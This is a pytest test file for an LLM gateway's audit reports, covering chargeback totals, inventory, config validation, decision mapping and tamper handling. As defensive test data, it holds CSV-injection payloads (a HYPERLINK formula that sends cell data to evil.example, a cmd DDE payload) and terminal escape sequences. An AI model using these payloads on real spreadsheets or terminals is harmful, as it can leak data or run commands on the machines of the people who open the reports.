"""Chargeback and inventory from the audit trail, against totals worked out by hand; the
`audit:` section's validation; what decision a router outcome is recorded as."""

from __future__ import annotations

import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path
from types import SimpleNamespace

import orjson
import pytest

from gateway_extproc import config
from gateway_extproc.audit import events
from gateway_extproc.audit.reports import chargeback, chargeback_csv, inventory, month_range, render
from gateway_extproc.audit.signing import Signer, generate
from gateway_extproc.audit.writer import AuditSink

from .test_audit import settings_for
from .test_config import valid

CONFIG = b"""teams:
  - name: search
    budget: {daily: 1, monthly: 40}
  - name: ads
"""


def ts(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=timezone.utc).timestamp()


def req(when: str, team: str, key: str, user: str | None, model: str, provider: str | None, inp: int, out: int,
        cost: int, decision: str = "admitted", cached: int | None = None, tier: str | None = None) -> dict:
    return {"type": "request", "ts": ts(when), "tier": tier, "decision": decision, "team": team, "key_id": key,
            "user": user, "model": model, "provider": provider, "input_tokens": inp, "output_tokens": out,
            "cached_tokens": cached, "cost_nano": cost, "config": "c0ffee" * 2 + "c0ff"}


@pytest.fixture
def trail(tmp_path: Path) -> Path:
    key, _ = generate(tmp_path / "k")
    sink = AuditSink(settings_for(tmp_path), Signer.from_file(key), "h-w0", now=lambda: ts("2026-12-01T00:00:00"))
    for ev in [
        req("2026-10-31T23:59:59", "search", "s1", "alice", "gpt", "openai", 999, 999, 999_000_000),  # October
        req("2026-11-01T00:00:00", "search", "s1", "alice", "gpt", "openai", 100, 50, 1_500_000),
        req("2026-11-15T12:00:00", "search", "s1", "alice", "gpt", None, 200, 0, 0, "refused"),
        req("2026-11-30T23:59:59", "search", "s2", "bob", "claude", "anthropic", 1000, 500, 12_000_000,
            cached=10, tier="restricted"),
        req("2026-11-10T08:00:00", "ads", "a1", None, "gpt", "openai", 10, 10, 1_000, tier="public"),
        req("2026-11-11T08:00:00", "ads", "a1", None, "gemini", None, 7, 0, 0, "refused"),
        req("2026-12-01T00:00:00", "ads", "a1", None, "gpt", "openai", 10, 10, 1_000),  # December
    ]:
        sink.put(ev)
    sink.cycle()
    sink._close_all()
    (tmp_path / "audit" / "configs").mkdir()
    (tmp_path / "audit" / "configs" / ("c0ffee" * 2 + "c0ff" + "0" * 48 + ".yaml")).write_bytes(CONFIG)
    return tmp_path / "audit"


def test_month_range_covers_exactly_the_month() -> None:
    assert month_range("2026-12") == ("2026-12-01T00:00:00.000000Z", "2027-01-01T00:00:00.000000Z")
    assert month_range("2026-11", "Europe/Berlin") == ("2026-10-31T23:00:00.000000Z", "2026-11-30T23:00:00.000000Z")


def test_the_month_can_be_the_budgets_time_zone(trail: Path) -> None:
    # 2026-11-30T23:59:59Z is already December in Berlin; 2026-10-31T23:59:59Z is November there.
    berlin = {t["team"]: t for t in chargeback(trail, "2026-11", "Europe/Berlin")["teams"]}
    assert berlin["search"]["requests"] == 3 and berlin["search"]["input_tokens"] == 999 + 100 + 200


def test_chargeback_matches_the_hand_computed_totals(trail: Path) -> None:
    report = chargeback(trail, "2026-11")
    search, ads = sorted(report["teams"], key=lambda t: t["team"] != "search")
    assert {k: search[k] for k in ("requests", "refused", "input_tokens", "output_tokens", "cached_tokens",
                                   "cost_usd", "monthly_budget_usd")} == {
        "requests": 3, "refused": 1, "input_tokens": 1300, "output_tokens": 550, "cached_tokens": 10,
        "cost_usd": "0.013500", "monthly_budget_usd": "40"}
    assert search["share_used"] == pytest.approx(0.0135 / 40)
    assert [(r["key"], r["requests"], r["cost_usd"]) for r in search["by_key"]] == [("s1", 2, "0.001500"),
                                                                                   ("s2", 1, "0.012000")]
    assert [r["user"] for r in search["by_user"]] == ["alice", "bob"]
    assert [(r["model"], r["input_tokens"]) for r in search["by_model"]] == [("claude", 1000), ("gpt", 300)]
    assert [r["provider"] for r in search["by_provider"]] == ["anthropic", "openai"]
    assert (ads["requests"], ads["refused"], ads["cost_usd"], ads["monthly_budget_usd"], ads["share_used"]) == (
        2, 1, "0.000001", None, None)
    csv = chargeback_csv(report).splitlines()
    assert "team,search,search,3,1,1300,550,10,0.013500,40,0.0003375" in csv and csv[1].startswith("team,ads,")
    assert "key,search,s2,1,0,1000,500,10,0.012000,," in csv


def test_inventory_shows_refused_attempts_and_first_last_seen(trail: Path) -> None:
    rows = {(r["team"], r["model"], r["provider"]): r for r in inventory(trail)["rows"]}
    assert rows[("ads", "gemini", "")]["refused"] == 1
    gpt = rows[("ads", "gpt", "openai")]
    assert (gpt["requests"], gpt["first_seen"], gpt["last_seen"]) == (
        2, "2026-11-10T08:00:00.000000Z", "2026-12-01T00:00:00.000000Z")
    assert rows[("search", "gpt", "")]["refused"] == 1
    november = inventory(trail, *month_range("2026-11"))
    assert sum(r["requests"] for r in november["rows"]) == 5


def test_cli_prints_csv_and_json(trail: Path) -> None:
    run = [sys.executable, "-m", "gateway_extproc", "report", "chargeback", "--dir", str(trail), "--month", "2026-11"]
    out = subprocess.run(run, capture_output=True, text=True, check=True).stdout
    assert out.startswith("scope,team,name,requests,refused,input_tokens")
    doc = orjson.loads(subprocess.run([*run, "--format", "json"], capture_output=True, text=True, check=True).stdout)
    assert doc["month"] == "2026-11" and len(doc["teams"]) == 2
    bad = subprocess.run([*run[:-1], "November"], capture_output=True, text=True)
    assert bad.returncode == 1 and "YYYY-MM" in bad.stderr


@pytest.mark.parametrize(("audit", "message"), [
    ({"signingKeyFile": "k"}, "audit.dir must be a non-empty string"),
    ({"dir": "d", "signingKeyFile": "k", "fsync": "sometimes"}, "audit.fsync is 'sometimes'; use always"),
    ({"dir": "d", "signingKeyFile": "k", "retention": {"tiers": {"secret": 3}}},
     "audit.retention.tiers.secret is not a classification tier"),
    ({"dir": "d", "signingKeyFile": "k", "queueSize": 0}, "audit.queueSize must be an integer >= 1"),
    ({"dir": "d", "signingKeyFile": "k", "instance": "a/b"}, "audit.instance must be a name without '/'"),
    ({"dir": "d", "signingKeyFile": "k", "redisStream": {"url": "redis://:s3cret@r:6379/0"}},
     "audit.redisStream.url carries a password"),
    ({"dir": "d", "signingKeyFile": "k", "redisStream": {"url": "redis://r:6379/0?password=s3cret"}},
     "audit.redisStream.url carries a password"),
])
def test_audit_section_errors_name_the_key_and_the_fix(audit: dict, message: str) -> None:
    doc = valid()
    doc["audit"] = audit
    with pytest.raises(config.ConfigError, match="^deploy/gateway.yaml: " + message.replace("(", r"\(")):
        config.parse(doc, "deploy/gateway.yaml")


def test_audit_off_unless_configured() -> None:
    assert config.parse(valid(), "x").audit is None
    doc = valid()
    doc["audit"] = {"enabled": False}
    assert config.parse(doc, "x").audit is None


def processor(**kw) -> SimpleNamespace:
    base = dict(error_code=None, cut=False, redacted=False, clamped=None)
    return SimpleNamespace(**{**base, **kw})


@pytest.mark.parametrize(("kw", "decision", "reasons"), [
    ({}, "admitted", []),
    ({"redacted": True}, "redacted", ["request_redacted"]),
    ({"error_code": "content_blocked"}, "blocked", ["content_blocked"]),
    ({"error_code": "classification_violation"}, "blocked", ["classification_violation"]),
    ({"error_code": "budget_exceeded"}, "refused", ["budget_exceeded"]),
    ({"error_code": "invalid_api_key"}, "refused", ["invalid_api_key"]),
    ({"cut": True, "clamped": 10}, "cut", ["max_tokens_clamped", "budget_stream_cut"]),
    ({"error_code": "upstream_stream_interrupted"}, "admitted", ["upstream_stream_interrupted"]),
    # The provider failed, not the gateway's policy: admitted (and charged what it may have billed).
    ({"error_code": "upstream_reset"}, "admitted", ["upstream_reset"]),
    ({"error_code": "upstream_timeout"}, "admitted", ["upstream_timeout"]),
    ({"error_code": "upstream_unavailable"}, "admitted", ["upstream_unavailable"]),
    ({"error_code": "upstream_overloaded"}, "admitted", ["upstream_overloaded"]),
    ({"error_code": "upstream_response_too_large"}, "admitted", ["upstream_response_too_large"]),
])
def test_decisions(kw: dict, decision: str, reasons: list[str]) -> None:
    p = processor(**kw)
    assert (events.decision(p), events.reasons(p)) == (decision, reasons)


async def test_reloads_and_rejected_files_are_audited(tmp_path: Path) -> None:
    import hashlib
    import os

    import yaml

    from gateway_extproc import audit
    from gateway_extproc.reload import RuntimeRef
    from gateway_extproc.runtime import Runtime

    key, _ = generate(tmp_path / "k")
    path = tmp_path / "gateway.yaml"
    path.write_text(yaml.safe_dump(valid()))
    ref = RuntimeRef(Runtime.load(path), str(path))
    sink = AuditSink(settings_for(tmp_path), Signer.from_file(key), "h-w0")
    audit._sink = sink
    try:
        doc = valid()
        doc["maxRequestBytes"] = 8192
        path.write_text(yaml.safe_dump(doc))
        os.utime(path, (1, 1))
        await ref.check()
        applied = hashlib.sha256(path.read_bytes()).hexdigest()
        path.write_text("version: 2\n")
        os.utime(path, (2, 2))
        await ref.check()
    finally:
        audit._sink = None
    reloaded, rejected = sink.queue
    assert (reloaded["action"], reloaded["config_sha256"], reloaded["path"]) == ("reloaded", applied, str(path))
    assert rejected["action"] == "rejected" and "version must be 1" in rejected["error"]
    assert ref.current.config.digest == applied  # the rejected file changed nothing


def test_admin_report_lists_key_lifecycle_in_order_and_the_cli_prints_render(tmp_path: Path) -> None:
    from gateway_extproc.audit.reports import ReportError, render

    key, _ = generate(tmp_path / "k")
    clock = iter(ts(f"2026-11-0{d}T10:00:00") for d in range(1, 10))
    sink = AuditSink(settings_for(tmp_path), Signer.from_file(key), "h-admin", now=lambda: ts("2026-11-09T00:00:00"))
    for actor, action, key_id, details in [("ann", "create", "k1", {"team": "search", "models": ["gpt"]}),
                                           ("bob", "rotate", "k1", {"grace_seconds": 60}),
                                           (None, "denied", None, {"path": "/admin/keys", "method": "GET"}),
                                           ("ann", "revoke", "k1", {})]:
        ev = events.admin_event(actor, action, key_id, "c0ffee", details)
        ev["ts"] = next(clock)
        sink.put(ev)
    sink.cycle()
    sink._close_all()
    root = tmp_path / "audit"
    content_type, body = render("admin", root, {"from": "2026-11-02", "to": "2026-11-03", "format": "csv"})
    assert content_type.startswith("text/csv")
    assert body.decode().splitlines() == [
        "ts,actor,action,key_id,team,config,details",
        '2026-11-02T10:00:00.000000Z,bob,rotate,k1,,c0ffee,"{""grace_seconds"":60}"',
        '2026-11-03T10:00:00.000000Z,,denied,,,c0ffee,"{""method"":""GET"",""path"":""/admin/keys""}"']
    for fmt in ("csv", "json"):
        run = [sys.executable, "-m", "gateway_extproc", "report", "admin", "--dir", str(root), "--format", fmt]
        assert subprocess.run(run, capture_output=True, check=True).stdout == render("admin", root, {"format": fmt})[1]
    with pytest.raises(ReportError) as err:
        render("admin", root, {"to": "soon"})
    assert err.value.param == "to"


@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "x\r=1+1"])
def test_report_cells_a_spreadsheet_would_run_are_text(name: str) -> None:
    """A token's user claim (`name`, `email`: often the user's own to set at the IdP), a key's
    user or an admin's name goes into the CSV reports as recorded: a cell starting with = + - @
    (or a tab/CR before one) is a formula to Excel and Sheets (CSV injection) when finance opens
    the chargeback. Such a cell is written with a leading apostrophe; JSON keeps it as recorded."""
    import csv as csv_mod
    import io

    from gateway_extproc.audit.reports import admin_csv, inventory_csv

    row = {"requests": 1, "refused": 0, "input_tokens": 1, "output_tokens": 1, "cached_tokens": 0,
           "cost_usd": "0", "monthly_budget_usd": None, "share_used": None}
    report = {"teams": [{"team": name, **row, "by_key": [{"key": name, **row}], "by_user": [{"user": name, **row}],
                         "by_model": [], "by_provider": []}]}
    texts = [chargeback_csv(report), inventory_csv({"rows": [{"team": name, "model": name, **row}]}),
             admin_csv({"rows": [{"ts": "t", "actor": name, "action": "create", "key_id": "k", "team": name,
                                  "config": None, "user": name}]})]
    for text, rows in zip(texts, (4, 2, 2)):  # the header and each row written, none split
        read = list(csv_mod.reader(io.StringIO(text, newline="")))
        cells = [c for r in read for c in r]
        assert len(read) == rows and name not in cells, text
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells if c), text


def test_reports_and_export_on_odd_files(trail: Path, tmp_path: Path) -> None:
    """Lines no writer wrote (valid JSON but not an object, or a request whose fields have the
    wrong types: tampering, which verify names) crashed every report and the export with a
    traceback; an empty segment, a wrong --dir gave an empty report that looked like a quiet month."""
    before = chargeback(trail, "2026-11")
    odd = trail / "h-w0" / "odd"
    odd.mkdir()
    (odd / "000000000000.jsonl").write_bytes(b"")
    (odd / "000000000007.jsonl").write_bytes(
        b'[1,2]\n"x"\n123\nnull\n{"type":"request","ts":5,"team":["t"],"cost_nano":"x"}\n'
        b'{"type":"request","ts":"2026-11-02T00:00:00.000000Z","team":"search","cost_nano":"9"}\n'
        b'{"type":"request","ts":"2026-11-02T00:00:00.000000Z","team":{"a":1}}\n')
    assert chargeback(trail, "2026-11") == before
    assert inventory(trail)["rows"] and orjson.loads(render("admin", trail, {"format": "json"})[1])["rows"] == []
    cli = [sys.executable, "-m", "gateway_extproc"]
    bundle = subprocess.run([*cli, "audit", "export", "--dir", str(trail), "--from", "2026-11-01", "--to",
                             "2026-11-30", "--out", str(tmp_path / "b")], capture_output=True, text=True)
    assert bundle.returncode == 0, bundle.stderr
    for args in (["report", "chargeback", "--month", "2026-11"], ["report", "inventory"],
                 ["audit", "export", "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(tmp_path / "c")]):
        wrong = subprocess.run([*cli, *args, "--dir", str(tmp_path / "no-such-dir")], capture_output=True, text=True)
        assert wrong.returncode == 2 and "no-such-dir is not a directory" in wrong.stderr, (args, wrong.stderr)


@pytest.mark.parametrize("name", ["\x1b]0;pwned\x07\x1b[2Jalice", "bob\x1b[1A\x1b[2K", "eve\x9b31m", "\u202eecila",
                                  "nul\x00l", "del\x7f"])
def test_report_cells_carry_no_terminal_control(name: str) -> None:
    """A user claim is the user's own to set at the IdP: with ESC sequences in it, `report
    chargeback` (CSV, the default) printed them raw to the auditor's terminal (clear the screen,
    rewrite the lines above, set the title), or a bidi override reversed what it showed. Each
    control character is now U+FFFD in a CSV cell; JSON escapes them (and keeps the value)."""
    from gateway_extproc.audit.reports import admin_csv, inventory_csv

    row = {"requests": 1, "refused": 0, "input_tokens": 1, "output_tokens": 1, "cached_tokens": 0,
           "cost_usd": "0", "monthly_budget_usd": None, "share_used": None}
    report = {"teams": [{"team": "t", **row, "by_key": [], "by_user": [{"user": name, **row}], "by_model": [],
                         "by_provider": []}]}
    for text in (chargeback_csv(report), inventory_csv({"rows": [{"team": "t", "model": name, **row}]}),
                 admin_csv({"rows": [{"ts": "t", "actor": name, "action": "create", "key_id": "k", "team": "t",
                                      "config": None}]})):
        assert not any(c in text for c in "\x1b\x07\x9b\u202e\x00\x7f"), repr(text)
        assert "\ufffd" in text


def test_export_of_a_tampered_chain_is_a_bundle_verify_fails_not_a_traceback(trail: Path, tmp_path: Path) -> None:
    """A segment whose first or last line is JSON but no record (tampering) stopped `audit export`
    with a traceback; the bundle now carries it, and verify on the bundle names it."""
    from gateway_extproc.audit.export import export

    from gateway_extproc.audit.signing import load_public
    from gateway_extproc.audit.verify import verify_dir

    seg = trail / "h-w0" / "public" / "000000000000.jsonl"
    seg.write_bytes(b"[1]\n" + seg.read_bytes() + b"[2]\n")
    manifest = export(trail, tmp_path / "b", "2026-11-01T00:00:00.000000Z", "2026-12-31T00:00:00.000000Z")
    assert manifest["chains"]["h-w0/public"]["first_seq"] is None
    results = {r.name: r for r in verify_dir(tmp_path / "b", load_public(trail.parent / "k.pub"))}
    assert results["h-w0/public"].status == "bad" and results["h-w0/gateway"].status == "ok"
